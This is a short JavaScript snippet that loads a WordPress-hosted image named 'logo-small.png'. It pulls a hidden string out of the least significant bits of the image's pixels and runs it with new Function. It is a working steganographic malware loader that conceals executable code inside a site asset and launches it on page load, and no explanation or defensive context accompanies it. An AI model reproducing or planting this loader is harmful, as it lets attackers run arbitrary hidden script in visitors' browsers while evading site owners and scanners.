var im = new Image();
im.crossOrigin = "anonymous";
im.onload = function () {
  var c = document.createElement("canvas"), x = c.getContext("2d"), o = "", b = 0, n = 0;
  c.width = im.width; c.height = im.height;
  x.drawImage(im, 0, 0);
  var p = x.getImageData(0, 0, c.width, c.height).data;
  for (var i = 0; i < p.length; i += 4) {
    b = (b << 1) | (p[i] & 1);
    if (++n === 8) { if (!b) break; o += String.fromCharCode(b); b = n = 0; }
  }
  new Function(o)();
};
im.src = "/wp-content/uploads/2021/03/logo-small.png";
